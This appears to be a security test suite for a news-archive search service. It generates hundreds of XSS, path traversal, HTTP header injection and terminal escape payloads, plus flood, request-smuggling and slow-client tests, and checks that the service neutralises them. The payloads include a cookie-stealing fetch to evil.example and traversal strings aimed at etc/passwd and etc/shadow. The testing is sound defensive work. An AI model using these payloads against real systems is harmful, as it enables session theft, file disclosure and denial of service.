"""What strangers send: payloads that must come out harmless, floods that must cost little, clients that hold on."""

import html.parser
import itertools
import json
import pathlib
import re
import socket
import tempfile
import threading
import time
import unittest
import urllib.parse

from service import Service

MIB = 1024  # KiB, as the kernel counts resident memory


def xss_payloads():
    script = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "top[`al`+`ert`](1)", "import('//evil.example')"]
    shapes = ["<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>",
              "</textarea><script>{}</script>", "</style><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
              "<body onload={}>", "<details open ontoggle={}>", "<a href=\"javascript:{}\">x</a>", "\" onfocus=\"{}\" autofocus=\"",
              "' onmouseover='{}", "\" onclick={} x=\"", "<iframe srcdoc=\"<script>{}</script>\">", "<math><mi//xlink:href=\"javascript:{}\">",
              "<input autofocus onfocus={}>", "<marquee onstart={}>", "<video><source onerror=\"{}\">", "<object data=\"javascript:{}\">",
              "<embed src=\"javascript:{}\">", "<form action=\"javascript:{}\"><button>x", "<isindex action=\"javascript:{}\">",
              "<base href=\"javascript:{}//\">", "<link rel=import href=\"javascript:{}\">", "<meta http-equiv=refresh content=\"0;javascript:{}\">",
              "<table background=\"javascript:{}\">", "<x contenteditable onblur={}>x", "<!--><img src=x onerror={}>-->", "<![CDATA[<script>{}</script>]]>",
              "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
              "%3Cscript%3E{}%3C/script%3E", "<scr\0ipt>{}</scr\0ipt>", "<scr<script>ipt>{}</scr</script>ipt>", "<svg><animate onbegin={} attributeName=x>",
              "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "\u202e<script>{}</script>",
              "<mark onpointerover={}>x</mark>", "<<script>{}//<</script>", "<img src='x' style='x:expression({})'>", "{{{{{}}}}}", "${{{}}}",
              "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "--><script>{}</script>"]
    return [shape.format(code) for shape, code in itertools.product(shapes, script)]


def traversal_payloads():
    targets = ["etc/passwd", "etc/shadow", "proc/self/environ", "XAPIANDB", "gen-1/ledger"]
    climbs = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..\\", "..%5c", "%c0%ae%c0%ae/", "....//", "..;/", ".%00./", "..%00/",
              "%uff0e%uff0e/", "..//", "./../"]
    starts = ["/", "/v1/", "/dateline.css/"]
    return [start + climb * 6 + target for start, climb, target in itertools.product(starts, climbs, targets)]


def header_payloads():
    breaks = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", "%0D%0A%20", "\u010d\u010a", "%E5%98%8A%E5%98%8D", "\r\n\t", "%23%0d%0a", "\\r\\n", "%5cr%5cn",
              "\x0b", "\x85", "\u2028", "%00\r\n"]
    added = ["Set-Cookie: evil=1", "X-Evil: 1", "Location: //evil.example", "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Evil: 1",
             "Access-Control-Allow-Origin: *", "Content-Type: text/html\r\n\r\n<script>1</script>"]
    places = ["x{}{}", "{}{}"]
    return [place.format(b, a) for place, b, a in itertools.product(places, breaks, added)]


def terminal_payloads():
    escapes = ["\x1b[31m", "\x1b]52;c;cm0gLXJm\x07", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d52;c;eA==\x9c",
               "\x1b[2J\x1b[H", "\x1b[6n", "\x1bc", "\x1b_evil\x1b\\", "\x1b^evil\x1b\\", "\b\b\b\b", "\x7f\x7f", "\x07", "\x0e", "\r overwritten", "\x1b[?1049h", "\x1b[20t",
               "\u202eevil", "\u2066x\u2069", "\u200f", "\ufeff", "\x90q\x9c", "\x1b]1337;File=:x\x07", "\x1b[8m hidden", "\u2028", "\u061c", "\x1b]4;1;?\x07", "\x1b[5i"]
    return ["{}{}{}".format(*parts) for parts in itertools.product(["", "a "], escapes, ["", " b", "\n", "x" * 50])]


class Page(html.parser.HTMLParser):
    """Collects what a browser would run: scripts, handlers, addresses that are no plain ones."""

    def __init__(self, text):
        super().__init__()
        self.dangers = []
        self.scripts = 0
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        if tag in ("script", "iframe", "object", "embed", "base", "style", "template", "isindex", "math", "video", "img", "marquee"):
            attributes_of = dict(attributes)
            if tag == "script" and (attributes_of.get("src") or "").startswith("/dateline.js?v="):
                self.scripts += 1
            else:
                self.dangers.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in ("srcdoc", "style"):
                self.dangers.append(f"{tag} {name}")
            if name in ("href", "src", "action", "data", "formaction"):
                if not re.match(r"(/|#|\?|https?://)", value or ""):
                    self.dangers.append(f"{tag} {name}={value}")


class PayloadTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.TemporaryDirectory()
        articles = pathlib.Path(cls.folder.name) / "evil.jsonl"
        payloads = xss_payloads() + terminal_payloads()
        with open(articles, "w", encoding="utf-8") as file:
            for i, payload in enumerate(payloads):
                file.write(json.dumps({"id": f"evil{i} {payload}"[:180], "title": f"Payload {i} {payload}",
                                       "body": f"Words of the archive. {payload} More words.\n\nJoe Biden spoke. {payload}",
                                       "source": f"Source {payload}", "section": payload, "authors": [payload, "Ann"],
                                       "url": "javascript:alert(1)" if i % 2 else "https://example.org/" + urllib.parse.quote(payload),
                                       "date": f"2022-01-{i % 28 + 1:02}", "keywords": [payload]}) + "\n")
        cls.count = len(payloads)
        cls.service = Service(articles=articles, options=["--log-queries", "--deadline", "20000"])

    @classmethod
    def tearDownClass(cls):
        cls.service.__exit__()
        cls.folder.cleanup()

    def assert_harmless(self, answer, what):
        page = Page(answer.text)
        self.assertEqual(page.dangers, [], what)
        self.assertEqual(page.scripts, 1, what)
        self.assertIn("script-src 'self'", answer.headers["Content-Security-Policy"])
        self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")

    def test_scripts_in_queries(self):
        payloads = xss_payloads()
        self.assertGreaterEqual(len(payloads), 200)
        for payload in payloads:
            self.assert_harmless(self.service.get("/search", q=payload), payload)
        for payload in payloads[::5]:
            self.assert_harmless(self.service.get("/search", q="archive", source=payload, date=payload, and_actor=payload), payload)
            self.assert_harmless(self.service.get("/search", q="archive", zone=payload, sort=payload, all=payload, offset="1"), payload)
            self.assert_harmless(self.service.get("/article", q=payload, id="nobody" + payload), payload)
            self.assert_harmless(self.service.ask("GET", "/" + urllib.parse.quote(payload)), payload)

    def test_scripts_in_articles(self):
        seen = 0
        for offset in range(0, self.count, 20):
            answer = self.service.get("/search", q="archive", sort="date", offset=offset)
            self.assert_harmless(answer, offset)
            seen += answer.text.count("</h2><p class=\"snip")
            for address in re.findall(r'<h2[^>]*><a href="([^"]*)"', answer.text)[::4]:
                self.assert_harmless(self.service.ask("GET", html_unescape(address)), address)
        self.assertEqual(seen, self.count)
        answer = self.service.get("/search", q="*", all="source")
        self.assert_harmless(answer, "all sources")

    def test_feeds_and_citations_of_such_articles(self):
        import xml.etree.ElementTree as ElementTree
        for offset in range(0, self.count, 100):
            feed = self.service.get("/feed.atom", q="archive", limit=100, offset=offset)
            tree = ElementTree.fromstring(feed.text)
            self.assertTrue(list(tree))
            for link in tree.iter("{http://www.w3.org/2005/Atom}link"):
                self.assertTrue(link.get("href").startswith(("http://", "https://")))
        for hit in self.service.get("/v1/search", q="archive", limit=60).json["hits"]:
            ris = self.service.get("/v1/cite", id=hit["id"], format="ris")
            self.assertEqual(ris.status, 200)
            for line in ris.text.split("\r\n")[:-1]:
                self.assertRegex(line, r"^[A-Z][A-Z0-9]  - ")

    def test_paths_lead_nowhere(self):
        payloads = traversal_payloads()
        self.assertGreaterEqual(len(payloads), 200)
        for payload in payloads:
            answer = raw(self.service.port, f"GET {payload} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
            status = int(answer.split(b" ", 2)[1]) if answer else 400
            self.assertIn(status, (400, 404), payload)
            self.assertNotIn(b"root:", answer)
            self.assertNotIn(b"auto gen-", answer)

    def test_no_header_is_added(self):
        payloads = header_payloads()
        self.assertGreaterEqual(len(payloads), 200)
        for payload in payloads:
            for path in ("/v1/search?q=archive&cursor=", "/search?q=", "/v1/cite?id=", "/feed.atom?q="):
                quoted = urllib.parse.quote(payload, safe="%")
                answer = raw(self.service.port, f"GET {path}{quoted} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
                self.assert_own_headers(answer, payload)
        for payload in payloads[::4]:  # echoed values: a request id, an origin
            value = payload.encode("utf-8", "replace")
            answer = raw(self.service.port, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Request-Id: " + value +
                         b"\r\nOrigin: https://desk.example" + value + b"\r\n\r\n")
            head = answer.split(b"\r\n\r\n")[0]
            self.assertNotIn(b"evil", head.split(b"\r\n", 1)[-1].lower(), payload)

    def assert_own_headers(self, answer, payload):
        head = answer.split(b"\r\n\r\n")[0].lower()
        for name in (b"\nset-cookie", b"\nx-evil", b"\nlocation", b"\naccess-control-allow-origin"):
            self.assertNotIn(name, head, payload)
        self.assertNotIn(b"\r\nHTTP/1.1 ", answer, payload)

    def test_nothing_steers_a_terminal(self):
        payloads = terminal_payloads()
        self.assertGreaterEqual(len(payloads), 200)
        steering = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
        for payload in payloads:
            for path in ("/v1/search", "/search", "/v1/suggest"):
                answer = self.service.get(path, q=payload)
                self.assertIsNone(steering.search(answer.text), (path, payload))
        for path in ("/v1/search", "/feed.json", "/feed.atom"):
            self.assertIsNone(steering.search(self.service.get(path, q="archive", limit=1000).text), path)
        for form in ("jsonl", "csv"):
            self.assertIsNone(steering.search(self.service.get("/v1/export", q="archive", format=form).text), form)
        time.sleep(0.3)
        for line in self.service.log_lines():  # with --log-queries what was sent stands in the log, escaped
            self.assertIsNone(steering.search(line), line)


def html_unescape(text):
    return text.replace("&amp;", "&").replace("&quot;", '"').replace("&#39;", "'").replace("&lt;", "<").replace("&gt;", ">")


def raw(port, request, timeout=10):
    """Sends bytes as they are, and reads until the server closes."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as connection:
        try:
            connection.sendall(request)
        except OSError:
            pass  # it has heard enough
        answer = b""
        try:
            while chunk := connection.recv(65536):
                answer += chunk
        except OSError:
            pass
        return answer


class FloodTest(unittest.TestCase):
    def setUp(self):
        self.service = Service(options=["-q"])
        for _ in range(50):
            self.service.get("/v1/search", q="sanctions")
        self.before = self.service.resident_kib()

    def tearDown(self):
        self.service.__exit__()

    def assert_cheap(self):
        self.assertLess(self.service.resident_kib() - self.before, 8 * MIB)
        self.assertEqual(self.service.get("/healthz").status, 200)

    def send_until_refused(self, first, piece, total):
        """Bytes that the server took of an endless request, and its answer."""
        sent = 0
        with socket.create_connection(("127.0.0.1", self.service.port), timeout=20) as connection:
            answer = b""
            try:
                connection.sendall(first)
                while sent < total:
                    connection.sendall(piece)
                    sent += len(piece)
            except OSError:
                pass
            try:
                answer = connection.recv(65536)
            except OSError:
                pass
        return sent, answer

    def test_endless_headers(self):
        first = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: "
        sent, answer = self.send_until_refused(first, b"a" * 65536, 300 * 1024 * 1024)
        self.assertLess(sent, 16 * 1024 * 1024)
        self.assertIn(answer[9:12], (b"431", b""))
        sent, answer = self.send_until_refused(b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-Many: 1\r\n" * 6000, 300 * 1024 * 1024)
        self.assertLess(sent, 16 * 1024 * 1024)
        sent, answer = self.send_until_refused(b"GET /?q=", b"a" * 65536, 300 * 1024 * 1024)
        self.assertLess(sent, 16 * 1024 * 1024)
        self.assert_cheap()

    def test_large_headers_are_refused_by_number(self):
        answer = raw(self.service.port, b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Long: " + b"a" * 20000 + b"\r\n\r\n")
        self.assertEqual(answer[9:12], b"431")
        answer = raw(self.service.port, b"GET /v1/search?q=oil HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Long: " + b"a" * 10000 + b"\r\n\r\n")
        self.assertEqual(answer[9:12], b"200")

    def test_endless_bodies(self):
        head = b"POST /v1/batch HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        answer = raw(self.service.port, head + b"Content-Length: 300000000\r\n\r\n")
        self.assertEqual(answer[9:12], b"413")
        sent, _ = self.send_until_refused(head + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"a" * 65536 + b"\r\n", 300 * 1024 * 1024)
        self.assertLess(sent, 32 * 1024 * 1024)
        chunk = b"40000\r\n" + b"a" * 262144 + b"\r\n"
        answer = raw(self.service.port, head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 6 + b"0\r\n\r\n")
        self.assertEqual(answer[9:12], b"413")
        self.assert_cheap()

    def test_ranges_are_not_served(self):
        ranges = ",".join(f"{i}-{i}" for i in range(1000))
        for _ in range(20):
            answer = self.service.get("/search", {"Range": "bytes=" + ranges}, q="sanctions")
            self.assertEqual(answer.status, 200)
        self.assertEqual(self.service.get("/dateline.css", {"Range": "bytes=0-10"}).status, 200)
        self.assert_cheap()

    def test_requests_that_two_servers_would_read_differently(self):
        for headers in (b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 5\r\nContent-Length: 6\r\n",
                        b"Host: evil.example\r\n", b"Content-Length: -1\r\n", b"Content-Length: 0x5\r\n", b"Content-Length: 99999999999999999999\r\n"):
            answer = raw(self.service.port, b"POST /v1/batch HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers + b"\r\nhello")
            # libmicrohttpd sends the head of its own refusals twice; what counts is that no second request was read.
            self.assertTrue(all(status == b"4" for status in re.findall(rb"HTTP/1.1 (\d)", answer)), headers)
            self.assertLessEqual(answer.count(b"X-Request-Id"), 1, headers)

    def test_queries_of_death(self):
        deadline = 2.0
        for query in ("a* " * 200, "(" * 64 + "oil" + ")" * 64, " NEAR/500 ".join(["sanctions"] * 120), " OR ".join(f"w{i}*" for i in range(200)),
                      "~2 ".join(["sanctionz"] * 60), '"' + "the " * 200 + '"', "oil " * 4000, "-" * 3000, "date:" * 500):
            started = time.monotonic()
            self.assertIn(self.service.get("/v1/search", q=query).status, (200, 400, 504), query[:40])
            self.assertLess(time.monotonic() - started, deadline * 2)
        self.assertLess(self.service.resident_kib() - self.before, 64 * MIB)

    def test_too_many_wait(self):
        self.service.__exit__()
        self.service = Service(options=["-q", "--queue", "1", "--threads", "1"])
        self.before = self.service.resident_kib()
        statuses = []

        def ask():
            answer = self.service.get("/v1/search", q=" OR ".join(f"{a}{b}*" for a in "abcdefgh" for b in "aeiou"), facet="actors", limit=50)
            statuses.append((answer.status, answer.headers.get("Retry-After")))

        threads = [threading.Thread(target=ask) for _ in range(40)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertLessEqual({status for status, _ in statuses}, {200, 400, 503})
        for status, retry in statuses:
            self.assertEqual(retry is not None, status == 503)


class HoldingTest(unittest.TestCase):
    def test_idle_and_slow_clients_do_not_hold_up_an_honest_one(self):
        with Service(options=["-q", "--connections", "1500"]) as service:
            idle = [socket.create_connection(("127.0.0.1", service.port)) for _ in range(2000)]
            slow = []
            for _ in range(200):
                connection = socket.create_connection(("127.0.0.1", service.port))
                connection.sendall(b"GET /search?q=oil HTTP/1.1\r\nHost: loc")
                slow.append(connection)
            times = []
            for _ in range(100):
                started = time.monotonic()
                self.assertEqual(service.get("/v1/search", q="sanctions").status, 200)
                times.append(time.monotonic() - started)
            times.sort()
            # The figure is in docs/PERFORMANCE.md; here the machine may be busy.
            self.assertLess(times[98], 1.0)
            open_now = int(re.search(r"dateline_connections (\d+)", service.get("/metrics").text).group(1))
            self.assertLessEqual(open_now, 1501)
            time.sleep(6.5)  # the head of a request may take 5 s
            closed = sum(1 for connection in slow if self.is_closed(connection))
            self.assertEqual(closed, len(slow))
            for connection in idle + slow:
                connection.close()

    @staticmethod
    def is_closed(connection):
        connection.setblocking(False)
        try:
            return connection.recv(1) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True


if __name__ == "__main__":
    unittest.main()
